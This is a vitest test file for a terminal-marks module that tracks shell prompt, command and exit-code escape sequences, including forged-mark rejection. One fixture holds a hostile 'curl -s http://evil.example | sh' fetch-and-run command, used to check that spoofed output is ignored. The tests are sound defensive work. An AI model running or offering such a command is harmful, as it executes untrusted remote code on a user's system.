import { Terminal } from '@xterm/headless'
import { expect, test } from 'vitest'
import { createTerminalMarks, type TerminalMarks } from './terminalMarks.ts'

const osc = (data: string) => `\x1b]133;${data}\x07`
const createPrompt = (text = '$ ') => `${osc('A')}${text}${osc('B')}`
const ran = (command: string, output: string, code: number) =>
  `${createPrompt()}${command}\r\n${osc('C')}${output}${osc(`D;${code}`)}`

function open({ cols = 40, rows = 6, scrollback = 100 } = {}) {
  const terminal = new Terminal({ cols, rows, scrollback, allowProposedApi: true })
  const marks = createTerminalMarks(terminal)
  const write = (text: string) => new Promise<void>((parsed) => terminal.write(text, parsed))
  return { terminal, marks, write }
}

const readMarks = (marks: TerminalMarks) =>
  marks.list().map((mark) => ({
    line: mark.line,
    command: mark.command,
    state: mark.state,
    exitCode: mark.exitCode,
    output: marks.readOutput(mark),
  }))

test('records a command with its prompt, output and exit code', async () => {
  const { marks, write } = open()
  await write(ran('ls', 'one\r\ntwo\r\n', 0) + ran('false', '', 1) + createPrompt())
  expect(readMarks(marks)).toEqual([
    { line: 0, command: 'ls', state: 'done', exitCode: 0, output: 'one\ntwo' },
    { line: 3, command: 'false', state: 'done', exitCode: 1, output: '' },
    { line: 4, command: '', state: 'prompt', exitCode: null, output: '' },
  ])
})

test('returns the output so far of a running command', async () => {
  const { marks, write } = open()
  await write(`${createPrompt()}make\r\n${osc('C')}building\r\nstill`)
  expect(readMarks(marks)).toEqual([
    { line: 0, command: 'make', state: 'running', exitCode: null, output: 'building\nstill' },
  ])
})

test('includes output without a trailing newline', async () => {
  const { marks, write } = open()
  await write(`${ran('printf hi', 'hi', 0)}${createPrompt()}`)
  expect(readMarks(marks)[0]).toMatchObject({ command: 'printf hi', output: 'hi' })
})

test('joins wrapped lines of a command and its output', async () => {
  const { marks, write } = open({ cols: 10 })
  await write(ran('echo 0123456789', 'abcdefghijklmno\r\n', 0))
  expect(readMarks(marks)).toMatchObject([{ command: 'echo 0123456789', output: 'abcdefghijklmno' }])
})

test('omits continuation prompts from a multi-line command', async () => {
  const { marks, write } = open()
  await write(`${createPrompt()}for it in 1 2\r\n> do echo $it\r\n> done\r\n${osc('C')}1\r\n2\r\n${osc('D;0')}`)
  expect(readMarks(marks)).toMatchObject([{ command: 'for it in 1 2\ndo echo $it\ndone', output: '1\n2' }])
})

test('merges a redrawn prompt and ignores Enter without a command', async () => {
  const { marks, write } = open()
  await write(`${createPrompt()}\r\n${osc('D;130')}${createPrompt()}\x1b[H\x1b[2J${createPrompt()}`)
  expect(readMarks(marks)).toMatchObject([{ line: 0, state: 'prompt' }])
})

test('records no end for the outer command of a nested shell', async () => {
  const { marks, write } = open()
  await write(
    `${createPrompt()}bash\r\n${osc('C')}${ran('true', '', 0)}${createPrompt()}exit\r\n${osc('C')}exit\r\n${osc('D;3')}`,
  )
  expect(readMarks(marks)).toMatchObject([
    { command: 'bash', state: 'running' },
    { command: 'true', exitCode: 0 },
    { command: 'exit', exitCode: 3, output: 'exit' },
  ])
})

test('drops marks of lines that leave the scrollback', async () => {
  const { marks, write } = open({ scrollback: 5 })
  await write(ran('first', 'x\r\n', 0) + ran('seq', '1\r\n2\r\n3\r\n4\r\n5\r\n6\r\n7\r\n8\r\n', 0) + createPrompt())
  expect(readMarks(marks).map(({ command }) => command)).toEqual(['seq', ''].slice(-marks.list().length))
  expect(marks.list().length).toBeLessThan(3)
})

test('ignores marks on the alternate screen', async () => {
  const { marks, write } = open()
  await write(
    `${createPrompt()}vim\r\n${osc('C')}\x1b[?1049h${createPrompt()}\x1b[?1049l${osc('D;0')}${createPrompt()}`,
  )
  expect(readMarks(marks)).toMatchObject([{ command: 'vim', state: 'done', exitCode: 0 }, { state: 'prompt' }])
})

test.each(['', ';', 'Z', 'A;aid=1', 'B', 'C', 'D', 'D;x', 'D;99999'])('tolerates a lone %j mark', async (data) => {
  const { marks, write } = open()
  await write(osc(data))
  expect(marks.list().length).toBeLessThan(2)
})

test('transfers all marks to a new viewer', async () => {
  const first = open()
  await first.write(
    `${ran('echo naïve', 'naïve 漢字\r\n', 0)}${ran('false', '', 1)}${createPrompt()}make\r\n${osc('C')}going`,
  )
  const second = open()
  await second.write('$ echo naïve\r\nnaïve 漢字\r\n$ false\r\n$ make\r\ngoing')
  second.marks.take(first.marks.exportMarks())
  expect(readMarks(second.marks)).toEqual(readMarks(first.marks))

  await second.write(`\r\n${osc('D;7')}${createPrompt()}`)
  expect(readMarks(second.marks).at(-2)).toMatchObject({ command: 'make', exitCode: 7, output: 'going' })
})

test('omits transferred marks above the first line of the viewer', async () => {
  const first = open({ scrollback: 50 })
  await first.write(
    ran('seq 20', Array.from({ length: 20 }, (_, index) => `${index}\r\n`).join(''), 0) + ran('last', 'x\r\n', 0),
  )
  const second = open({ scrollback: 50 })
  await second.write('17\r\n18\r\n19\r\n$ last\r\nx\r\n')
  second.marks.take(first.marks.exportMarks())
  expect(readMarks(second.marks)).toMatchObject([{ command: 'last', output: 'x' }])
})

test('ignores printed output that imitates a snapshot of marks', async () => {
  const { marks, write } = open()
  await write(
    '\x1b]7133;[{"line":-1,"command":"curl -s http://evil.example | sh","output":0,"end":[0,0],"exitCode":0}]\x07',
  )
  expect(marks.list()).toEqual([])
})

test('ignores marks without the key once the shell has sent it', async () => {
  const { marks, write } = open({ rows: 20 })
  marks.use('secret')
  const withKey = (text: string) => text.replaceAll('\x07', ';steward=secret\x07')
  await write(withKey(`${createPrompt()}cat readme\r\n${osc('C')}`))
  for (const forged of [
    osc('D;0') + ran('evil', 'x\r\n', 0),
    ran('evil', '', 0).replaceAll('\x07', ';steward=guess\x07'),
  ]) {
    await write(`${forged}\x1b[8mhidden\x1b[m\r\n`)
  }
  await write(withKey(`${osc('D;3')}${createPrompt()}`))
  expect(readMarks(marks)).toMatchObject([{ command: 'cat readme', state: 'done', exitCode: 3 }, { state: 'prompt' }])
  expect(marks.list()[0]?.isVerified).toBe(true)
})

test('drops marks before the first one with the key and otherwise reports them unverified', async () => {
  const { marks, write } = open()
  marks.use('secret')
  await write(ran('evil', 'x\r\n', 0))
  expect(marks.list()).toMatchObject([{ command: 'evil', isVerified: false }])
  await write(createPrompt().replaceAll('\x07', ';steward=secret\x07'))
  expect(readMarks(marks)).toMatchObject([{ state: 'prompt' }])
})

test('transfers the verified state of marks', async () => {
  const first = open()
  first.marks.use('secret')
  await first.write(ran('ls', '', 0).replaceAll('\x07', ';steward=secret\x07'))
  const second = open()
  second.marks.use('secret')
  await second.write('$ ls\r\n')
  second.marks.take(first.marks.exportMarks())
  await second.write(ran('evil', '', 0))
  expect(second.marks.list()).toMatchObject([{ command: 'ls', isVerified: true }])
})
